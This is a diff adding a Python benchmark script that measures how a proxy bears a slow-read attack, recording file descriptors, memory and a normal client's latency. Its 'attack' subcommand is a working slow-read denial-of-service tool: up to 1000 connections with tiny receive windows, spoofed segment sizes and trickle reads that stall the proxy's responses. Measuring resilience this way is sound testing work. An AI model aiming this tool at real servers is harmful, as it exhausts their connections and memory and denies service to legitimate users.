@@ -1,0 +1,303 @@
+#!/usr/bin/env python3
+"""The slow-read scenario's load (stdlib only): slow readers plus a normal client.
+
+  slowread.py run --port N --pid PID --conns N --seconds S --out FILE
+
+Opens N "slow readers" (a separate process): each asks for PATH (a 1 MiB response) with a
+tiny receive window (SO_RCVBUF set before connect, as slowhttptest -X does) and a remote
+client's segment size (TCP_MAXSEG), and then reads READ bytes every INTERVAL seconds, so the
+proxy is left holding a response it cannot hand on.
+Once they all stall, it counts the proxy's file descriptors and RSS per slow connection, then
+runs a normal client for S seconds: one keep-alive connection asking for NORMAL_PATH at a fixed
+pace (every BIG_EVERY-th request a 1 MiB BIG_PATH on a second keep-alive connection), and writes
+one `key=value` line for run.sh: units (normal requests), latency percentiles and max of the
+small requests, the 1 MiB fetches' p99 and max, fds and RSS per slow connection, and how many
+slow readers the proxy still held at the end (a proxy that dropped them did not bear the attack).
+"""
+import argparse
+import glob
+import os
+import re
+import select
+import selectors
+import socket
+import subprocess
+import sys
+import time
+
+LINGER_RST = b"\x01\x00\x00\x00\x00\x00\x00\x00"  # SO_LINGER {on, 0}: close with RST, no TIME_WAIT
+OPEN_BATCH = 50      # slow readers connected at once: stays under every proxy's listen backlog
+HEAD_TIMEOUT = 20.0  # seconds for every slow reader's response head to arrive
+STALL_SETTLE = 1.0   # seconds for the proxies to fill what they buffer before fds/RSS are read
+IO_TIMEOUT = 10.0    # the normal client's socket timeout: a request this slow counts as an error
+
+
+def tree(pid):
+    out, todo = [], [pid]
+    while todo:
+        p = todo.pop()
+        out.append(p)
+        for t in glob.glob(f"/proc/{p}/task/*/children"):
+            try:
+                todo.extend(int(c) for c in open(t).read().split())
+            except OSError:
+                pass
+    return out
+
+
+def fds(pid):
+    n = 0
+    for p in tree(pid):
+        try:
+            n += len(os.listdir(f"/proc/{p}/fd"))
+        except OSError:
+            pass
+    return n
+
+
+def rss_kb(pid):
+    total = 0
+    for p in tree(pid):
+        try:
+            with open(f"/proc/{p}/status") as f:
+                total += next(int(l.split()[1]) for l in f if l.startswith("VmRSS:"))
+        except (OSError, StopIteration):
+            pass
+    return total
+
+
+# ---------------------------------------------------------------- slow readers (child process)
+def cmd_attack(a):
+    """Connects the slow readers, prints `ready N` once each has its response head (N: how
+    many did), then reads a little from each every interval until stdin closes."""
+    req = f"GET {a.path} HTTP/1.1\r\nHost: {a.host}:{a.port}\r\n\r\n".encode()
+    sel = selectors.DefaultSelector()
+    socks, heads = [], {}
+    for start in range(0, a.conns, OPEN_BATCH):
+        batch = []
+        for _ in range(min(OPEN_BATCH, a.conns - start)):
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, a.window)  # before connect: the window
+            # A remote client's segment size: on loopback (MSS 64 KiB) the proxy's send buffer
+            # autotunes to megabytes and swallows a whole 1 MiB response, so nothing would stall.
+            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, a.mss)
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER_RST)
+            try:
+                s.settimeout(5)
+                s.connect((a.host, a.port))
+                s.sendall(req)
+                s.setblocking(False)
+            except OSError:
+                s.close()
+                continue
+            batch.append(s)
+            heads[s] = b""
+            sel.register(s, selectors.EVENT_READ)
+        socks.extend(batch)
+        # Wait for this batch's heads before the next one (and read no more than the head).
+        deadline = time.monotonic() + HEAD_TIMEOUT
+        while any(b"\r\n\r\n" not in heads[s] for s in batch) and time.monotonic() < deadline:
+            for key, _ in sel.select(0.2):
+                s = key.fileobj
+                if b"\r\n\r\n" in heads[s]:
+                    continue
+                try:
+                    chunk = s.recv(a.read)
+                except BlockingIOError:
+                    continue
+                except OSError:
+                    chunk = b""
+                if not chunk:
+                    sel.unregister(s)
+                    heads[s] = b"closed\r\n\r\n"
+                else:
+                    heads[s] += chunk
+    ok = sum(1 for s in socks if heads[s].startswith(b"HTTP/1.1 200"))
+    print(f"ready {ok}", flush=True)
+    # Slow reading: READ bytes per reader per INTERVAL, until the parent closes our stdin.
+    alive = set(s for s in socks if heads[s].startswith(b"HTTP/1.1 200"))
+    stdin = sys.stdin.fileno()
+    while True:
+        if select.select([stdin], [], [], a.interval)[0] and os.read(stdin, 4096) == b"":
+            break
+        for s in list(alive):
+            try:
+                if not s.recv(a.read):
+                    alive.discard(s)
+            except BlockingIOError:
+                pass
+            except OSError:
+                alive.discard(s)
+    # How many the proxy still held open: not closed by it during the run.
+    held = 0
+    for s in alive:
+        try:
+            held += 1 if s.recv(a.read) else 0
+        except BlockingIOError:
+            held += 1
+        except OSError:
+            pass
+    print(f"held {held}", flush=True)
+    for s in socks:
+        s.close()
+    return 0
+
+
+# ---------------------------------------------------------------- normal client
+class Conn:
+    def __init__(self, host, port):
+        self.addr = (host, port)
+        self.sock = None
+        self.buf = b""
+
+    def get(self, path, host_header):
+        """One GET; returns (status, body length). Reconnects once if a kept-alive socket was closed."""
+        for attempt in (0, 1):
+            if self.sock is None:
+                self.sock = socket.create_connection(self.addr, timeout=IO_TIMEOUT)
+                self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+                self.buf = b""
+            try:
+                self.sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host_header}\r\n\r\n".encode())
+                return self._response()
+            except (ConnectionError, BrokenPipeError):
+                self.close()
+                if attempt:
+                    raise
+        raise ConnectionError("unreachable")
+
+    def _recv(self):
+        chunk = self.sock.recv(1 << 20)
+        if not chunk:
+            raise ConnectionError("closed")
+        self.buf += chunk
+
+    def _response(self):
+        while b"\r\n\r\n" not in self.buf:
+            self._recv()
+        head, self.buf = self.buf.split(b"\r\n\r\n", 1)
+        status = int(head.split(b" ", 2)[1])
+        m = re.search(rb"(?im)^content-length:\s*(\d+)", head)
+        if not m:
+            raise ConnectionError("no content-length")
+        n = int(m.group(1))
+        while len(self.buf) < n:
+            self._recv()
+        self.buf = self.buf[n:]
+        return status, n
+
+    def close(self):
+        if self.sock is not None:
+            self.sock.close()
+            self.sock = None
+
+
+def pct(sorted_us, q):
+    if not sorted_us:
+        return None
+    return sorted_us[min(len(sorted_us) - 1, int(q * len(sorted_us)))]
+
+
+def normal_client(a):
+    """Paced requests for a.seconds: (small latencies us, big latencies us, errors, elapsed)."""
+    host_header = f"{a.host}:{a.port}"
+    small, big = Conn(a.host, a.port), Conn(a.host, a.port)
+    lat_small, lat_big, errors = [], [], 0
+    period = 1.0 / a.rate
+    t0 = time.monotonic()
+    end = t0 + a.seconds
+    i = 0
+    while True:
+        slot = t0 + i * period
+        now = time.monotonic()
+        if slot >= end:
+            break
+        if slot > now:
+            time.sleep(slot - now)
+        is_big = a.big_every and i % a.big_every == a.big_every - 1
+        conn, path = (big, a.big_path) if is_big else (small, a.normal_path)
+        start = time.monotonic()
+        try:
+            status, _ = conn.get(path, host_header)
+            if status != 200:
+                errors += 1
+        except OSError:
+            errors += 1
+            conn.close()
+        us = (time.monotonic() - start) * 1e6
+        (lat_big if is_big else lat_small).append(us)
+        i += 1
+    small.close()
+    big.close()
+    return sorted(lat_small), sorted(lat_big), errors, time.monotonic() - t0
+
+
+def cmd_run(a):
+    fds0, rss0 = fds(a.pid), rss_kb(a.pid)
+    child = subprocess.Popen(
+        [sys.executable, os.path.abspath(__file__), "attack", "--host", a.host, "--port", str(a.port),
+         "--path", a.big_path, "--conns", str(a.conns), "--window", str(a.window), "--read", str(a.read),
+         "--interval", str(a.interval), "--mss", str(a.mss)],
+        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    try:
+        line = child.stdout.readline().split()
+        ready = int(line[1]) if len(line) == 2 and line[0] == "ready" else 0
+        time.sleep(STALL_SETTLE)
+        fds1, rss1 = fds(a.pid), rss_kb(a.pid)
+        small, bigs, errors, elapsed = normal_client(a)
+        fds2, rss2 = fds(a.pid), rss_kb(a.pid)
+    finally:
+        child.stdin.close()
+        try:
+            out = child.stdout.read().split()
+            child.wait(timeout=60)
+        except subprocess.TimeoutExpired:
+            child.kill()
+            out = []
+    held = int(out[1]) if len(out) == 2 and out[0] == "held" else 0
+    n = max(ready, 1)
+    per_fd = (max(fds1, fds2) - fds0) / n
+    per_rss = (max(rss1, rss2) - rss0) / n
+    us = lambda v: "-" if v is None else f"{v:.0f}"
+    ms = lambda v: "-" if v is None else f"{v / 1e3:.3f}"
+    line = (f"loadgen=slowread units={len(small) + len(bigs)} seconds={elapsed:.3f} "
+            f"errors={errors + (a.conns - ready)} "
+            f"p50_us={us(pct(small, 0.50))} p90_us={us(pct(small, 0.90))} p99_us={us(pct(small, 0.99))} "
+            f"p999_us={us(pct(small, 0.999))} max_ms={ms(small[-1] if small else None)} "
+            f"big_p50_ms={ms(pct(bigs, 0.50))} big_p99_ms={ms(pct(bigs, 0.99))} "
+            f"big_max_ms={ms(bigs[-1] if bigs else None)} "
+            f"slow_conns={ready} slow_held={held} fds_idle={fds0} fds_attacked={max(fds1, fds2)} "
+            f"slow_fds_per_conn={per_fd:.2f} slow_rss_per_conn_kb={per_rss:.2f}")
+    with open(a.out, "w") as f:
+        f.write(line + "\n")
+    print(line)
+    return 0
+
+
+def main():
+    ap = argparse.ArgumentParser()
+    sub = ap.add_subparsers(dest="cmd", required=True)
+    for name in ("run", "attack"):
+        p = sub.add_parser(name)
+        p.add_argument("--host", default="127.0.0.1")
+        p.add_argument("--port", type=int, required=True)
+        p.add_argument("--conns", type=int, default=1000)
+        p.add_argument("--window", type=int, default=2048, help="slow readers' SO_RCVBUF")
+        p.add_argument("--read", type=int, default=32, help="bytes a slow reader reads per interval")
+        p.add_argument("--interval", type=float, default=1.0)
+        p.add_argument("--mss", type=int, default=1460, help="slow readers' TCP_MAXSEG (Ethernet's)")
+    sub.choices["attack"].add_argument("--path", default="/1m")
+    r = sub.choices["run"]
+    r.add_argument("--pid", type=int, required=True)
+    r.add_argument("--seconds", type=float, required=True)
+    r.add_argument("--rate", type=float, default=200.0, help="normal requests per second")
+    r.add_argument("--normal-path", default="/")
+    r.add_argument("--big-path", default="/1m")
+    r.add_argument("--big-every", type=int, default=10, help="every Nth normal request is BIG_PATH (0: none)")
+    r.add_argument("--out", required=True)
+    a = ap.parse_args()
+    return {"run": cmd_run, "attack": cmd_attack}[a.cmd](a)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
